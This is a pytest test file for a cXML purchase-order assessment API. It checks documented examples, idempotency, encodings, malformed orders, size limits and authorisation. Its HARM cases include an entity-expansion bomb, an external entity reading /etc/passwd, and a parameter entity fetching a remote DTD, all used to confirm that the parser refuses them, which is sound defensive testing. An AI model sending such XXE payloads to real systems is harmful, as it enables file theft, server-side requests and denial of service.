"""Orders in cXML: the documented examples, and documents that would do harm."""

from __future__ import annotations

import re

import pytest
from defusedxml.ElementTree import fromstring

from fleet.models.keys import Scope
from risk.api.purchase_shapes import LineTaken
from risk.cxml.reading import EXTRINSICS, CxmlUnreadable, read_order
from risk.models import PurchaseCheck
from tests.api.programs import Program, a_key
from tests.console.visitors import an_operator
from tests.house.tree import ROOT

pytestmark = pytest.mark.usefixtures("shipped")
ASSESSMENTS = "/api/v1/assessments/"
CART, ORDER = re.findall(r"```xml\n(.*?)```", (ROOT / "docs" / "cxml.md").read_text(encoding="utf-8"), re.S)


@pytest.fixture
def program():
    return Program(a_key(an_operator(), Scope.ASSESSMENTS_WRITE, Scope.FLEET_READ))


def sent(program, document, kind="text/xml", once=None):
    body = document if isinstance(document, bytes) else document.encode()
    headers = {"Idempotency-Key": once} if once else {}
    named = {"CONTENT_TYPE": kind, "headers": headers}
    return program.client.generic("POST", f"{ASSESSMENTS}?on=2026-11-28", body, kind, **named)


def extrinsics(place):
    return {each.get("name"): each.text for each in place.findall("Extrinsic")}


def status_of(answer):
    """The Status of an answer, which agrees with that of HTTP where it is a refusal."""
    assert answer["Content-Type"] == "text/xml"
    status = fromstring(answer.content).find("Response/Status")
    assert answer.status_code in (int(status.get("code")), 201)
    return int(status.get("code")), status.text


def test_the_documented_cart_is_checked_as_the_same_question_in_json(program):
    answer = sent(program, CART)
    assert status_of(answer)[0] == 200
    response = fromstring(answer.content).find("Response")
    (item,) = [each for each in response.findall("Extrinsic") if each.get("name") == "item"]
    line = {
        "model": "Antminer S21 XP",
        "maker": "Bitmain",
        "quantity": 500,
        "unit_value": "3900.00",
        "hts_code": "8543709860",
        "country_of_origin": "MY",
        "country_of_assembly": "MY",
        "transport_mode": "air",
        "expected_entry_date": "2026-12-15",
        "vendor": "Bitmain",
    }
    told = program.post(f"{ASSESSMENTS}?on=2026-11-28", {"lines": [line]}).json()
    (same,) = told["lines"]
    assert extrinsics(response)["verdict"] == told["verdict"]
    assert extrinsics(response)["landedCost"] == told["totals"]["landed_cost"]
    assert extrinsics(item) | {"lineNumber": None} == {
        "lineNumber": None,
        "verdict": same["verdict"],
        "reason": same["decided_by"]["sentence"],
        "state": same["state"],
        "countryOfOrigin": "MY",
        "countryOfAssembly": "MY",
        "model": "Antminer S21 XP",
        "vendor": "Bitmain",
        "sanctionLevel": same["sanction"]["level"],
        "band": same["band"],
        "additionalRatePercent": same["additional_rate_percent"],
        "totalDuty": same["total_duty"],
        "fees": same["fees"],
        "landedUnitCost": same["landed_unit_cost"],
    }
    assert extrinsics(item)["lineNumber"] == "S21XP-270"


def test_the_documented_order_is_checked_item_by_item_and_kept(program):
    answer = sent(program, ORDER, kind="application/xml; charset=utf-8")
    response = fromstring(answer.content).find("Response")
    items = [extrinsics(each) for each in response.findall("Extrinsic") if each.get("name") == "item"]
    assert [(each["lineNumber"], each["countryOfOrigin"]) for each in items] == [("1", "CN"), ("2", "TH")]
    assert all(each["landedUnitCost"] for each in items)
    kept = program.get(answer["Location"]).json()
    assert (kept["purchase_order"], kept["id"]) == ("PO-2026-031", extrinsics(response)["checkID"])
    first, second = kept["lines"]
    assert (first["quantity"], second["quantity"]) == (200, 150)
    assert (first["entry_date"], first["vendor"]["name"]) == ("2026-12-15", "MicroBT")
    assert first["facts"]["import_country"] == "US"


def test_the_same_document_with_the_same_key_is_answered_once(program):
    one, again = sent(program, CART, once="one"), sent(program, CART, once="one")
    assert (again.content, again["Idempotency-Replayed"]) == (one.content, "true")
    assert PurchaseCheck.objects.count() == 1
    assert status_of(sent(program, ORDER, once="one"))[0] == 422


BOMB = "<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {b} '&{a};&{a};&{a};&{a};'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
HARM = {
    "a bomb": ('<!DOCTYPE cXML SYSTEM "x.dtd" [' + BOMB + "]>", "cxml_dtd_refused"),
    "an outer entity": ('<!DOCTYPE cXML [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "cxml_dtd_refused"),
    "an outer parameter": (
        '<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p;]>',
        "cxml_dtd_refused",
    ),
    "declarations": ('<!DOCTYPE cXML [<!ATTLIST ItemIn quantity CDATA "9">]>', "cxml_dtd_refused"),
    "another doctype": ('<!DOCTYPE html SYSTEM "http://xml.cxml.org/cXML.dtd">', "cxml_dtd_refused"),
}
DOCTYPE = re.compile(r"<!DOCTYPE[^>]*>")


@pytest.mark.parametrize(("doctype", "code"), HARM.values(), ids=list(HARM))
def test_a_document_that_declares_anything_is_refused(program, doctype, code):
    answer = sent(program, DOCTYPE.sub(lambda _: doctype, CART).replace("EA<", "&i;<"))
    assert status_of(answer)[0] == 400
    assert extrinsics(fromstring(answer.content).find("Response"))["code"] == code
    assert not PurchaseCheck.objects.exists()


WRECKS = {
    "empty": b"",
    "no xml": b"model,quantity\nS21,5",
    "cut": CART[:700].encode(),
    "an entity that nobody declares": CART.replace("Bitmain<", "&bitmain;<").encode(),
    "another encoding than it says": CART.replace("Malaysia", "Malaisïa").encode("cp1252"),
    "an encoding that is none": CART.replace("UTF-8", "klingon").encode(),
    "an encoding of several bytes": CART.replace("UTF-8", "gb18030").encode(),
    "nul characters": CART.replace("Malaysia", "\0").encode(),
    "another document": b"<html/>",
    "an invoice": b"<cXML><Request><InvoiceDetailRequest/></Request></cXML>",
    "nothing in it": b"<cXML/>",
    "no items": re.sub(r"<ItemIn.*</ItemIn>", "", CART, flags=re.S).encode(),
    "an order that is taken back": ORDER.replace('type="new"', 'type="delete"').encode(),
    "a price for ten": CART.replace(
        "<UnitOfMeasure>", '<PriceBasisQuantity quantity="10"/><UnitOfMeasure>'
    ).encode(),
    "a price in euros": CART.replace('currency="USD">3900', 'currency="EUR">3900').encode(),
    "a price in nothing": CART.replace('<Money currency="USD">3900', "<Money>3900").encode(),
    "a fraction of a rig": CART.replace('quantity="500"', 'quantity="0.5"').encode(),
    "a country that is none": CART.replace(">MY<", ">Atlantis<").encode(),
    "a day that is none": CART.replace("2026-12-15", "tomorrow").encode(),
}


@pytest.mark.parametrize("document", WRECKS.values(), ids=list(WRECKS))
def test_a_document_that_cannot_be_taken_is_a_status_and_no_fault(program, document):
    status, sentence = status_of(sent(program, document))
    assert status == 400
    assert sentence


@pytest.mark.parametrize(
    ("document", "code"),
    [
        (ORDER.replace('lineNumber="1"', 'lineNumber="1" itemType="composite"'), "cxml_items_grouped"),
        (ORDER.replace('lineNumber="2"', 'lineNumber="2" parentLineNumber="1"'), "cxml_items_grouped"),
        (CART.replace(">EA<", ">BX<"), "cxml_unit_of_measure"),
        (CART.replace(">EA<", ">PF<"), "cxml_unit_of_measure"),
    ],
)
def test_groups_and_quantities_that_are_no_single_rigs_are_refused(program, document, code):
    answer = sent(program, document)
    assert status_of(answer)[0] == 400
    assert extrinsics(fromstring(answer.content).find("Response"))["code"] == code
    assert not PurchaseCheck.objects.exists()


@pytest.mark.parametrize("unit", ["EA", "pce", "H87", "C62", "nar", "unit", ""])
def test_single_rigs_are_taken_by_every_name_of_their_unit(unit):
    (line,) = read_order(CART.replace(">EA<", f">{unit}<").encode())["order"]["lines"]
    assert line["quantity"] == "500"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "latin-1"])
def test_a_document_is_read_in_the_encoding_that_it_names(program, encoding):
    name = {"utf-8-sig": "UTF-8", "utf-16": "UTF-16", "latin-1": "ISO-8859-1"}[encoding]
    document = CART.replace("UTF-8", name).replace("Shop", "Shöp").encode(encoding)
    assert (
        sent(
            program, document, kind="text/xml; charset=latin-1" if encoding == "latin-1" else "text/xml"
        ).status_code
        == 201
    )


def test_a_fault_names_its_item(program):
    status, sentence = status_of(sent(program, ORDER.replace('quantity="150"', 'quantity="0"')))
    assert status == 400
    assert "Item 2 quantity" in sentence


@pytest.mark.parametrize(
    "document",
    [
        b"<cXML>" + b"<a/>" * 100_001 + b"</cXML>",
        b"<a>" * 5_000 + b"</a>" * 5_000,
    ],
    ids=["many elements", "deep"],
)
def test_a_document_without_end_is_refused(document):
    with pytest.raises(CxmlUnreadable) as refusal:
        read_order(document)
    assert refusal.value.code == "cxml_too_large"


def test_ten_megabytes_are_a_status(program):
    answer = sent(program, CART.replace("f5d75ddb", "x" * 10_000_000))
    assert status_of(answer)[0] == 413


def test_who_may_not_ask_is_told_in_cxml_too():
    answer = sent(Program("rl_1_2"), CART)
    assert status_of(answer)[0] == 401
    answer = sent(Program(a_key(an_operator(), Scope.FLEET_READ)), CART)
    assert status_of(answer)[0] == 403
    assert answer["RateLimit"]


def test_every_extrinsic_means_a_field_of_a_line():
    assert set(EXTRINSICS.values()) <= set(LineTaken().fields)
